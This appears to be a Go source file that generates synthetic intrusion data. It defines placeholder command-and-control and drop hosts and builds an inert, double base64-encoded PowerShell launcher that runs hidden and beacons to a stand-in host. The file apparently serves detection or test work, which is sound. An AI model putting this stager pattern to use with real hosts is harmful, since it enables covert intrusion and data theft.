package datasets

// Where the intruder's programs report to and send to.
var (
	control = remote{"cdn.harbor-metrics.example", "203.0.113.77", "443"}
	drop    = remote{"files.drop-quay.example", "198.51.100.42", "443"}
)

const (
	controlURL = "https://cdn.harbor-metrics.example/v2/collect"
	dropURL    = "https://files.drop-quay.example/u/9f3c/cache.7z"
	// mailAddress is where the intruder reads mail from.
	mailAddress = "198.51.100.23"
)

// The scripts look like a launcher and do nothing: they set variables and call a
// command that does not exist anywhere.

// innerScript is the second layer, with the address.
const innerScript = "$uri = '" + controlURL + "'\r\n$interval = 60\r\n$jitter = 5\r\n" +
	"Start-HarborReport -Uri $uri -Interval $interval -Jitter $jitter"

// launcherScript is the first layer: what -enc carries.
func launcherScript() string {
	return "$ProgressPreference = 'SilentlyContinue'\r\n$note = '" + encode(innerScript) + "'\r\n" +
		"$text = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($note))\r\nInvoke-HarborNote -Text $text"
}

// launcher is the command line that starts it.
func launcher() string {
	return "powershell.exe -NoP -W Hidden -enc " + encode(launcherScript())
}
